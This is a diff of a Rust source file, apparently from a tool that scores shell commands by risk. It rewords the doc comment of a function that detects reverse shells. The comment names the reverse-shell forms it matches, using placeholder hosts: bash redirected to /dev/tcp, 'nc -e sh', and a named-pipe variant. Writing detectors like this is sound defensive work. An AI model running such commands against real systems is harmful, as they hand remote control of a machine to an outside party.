@@ -69,8 +69,8 @@ fn ping(words: &[Vec<u8>]) -> Option<Step> {
     Some(Step::new(weight, format!("pings {host}")))
 }
 
-/// Returns the step of a shell whose input and output are a connection: `bash -i >&
-/// /dev/tcp/HOST/PORT`, `nc -e sh HOST PORT`, or a shell and `nc` with a named pipe between them.
+/// Returns the step of a reverse shell, which reads from and writes to a connection: `bash -i >&
+/// /dev/tcp/HOST/PORT`, `nc -e sh HOST PORT`, or both with a named pipe between them.
 pub(super) fn reverse_shell(pipe: &[Call]) -> Option<Step> {
     for call in pipe {
         for word in call.words.iter().chain(&call.into) {
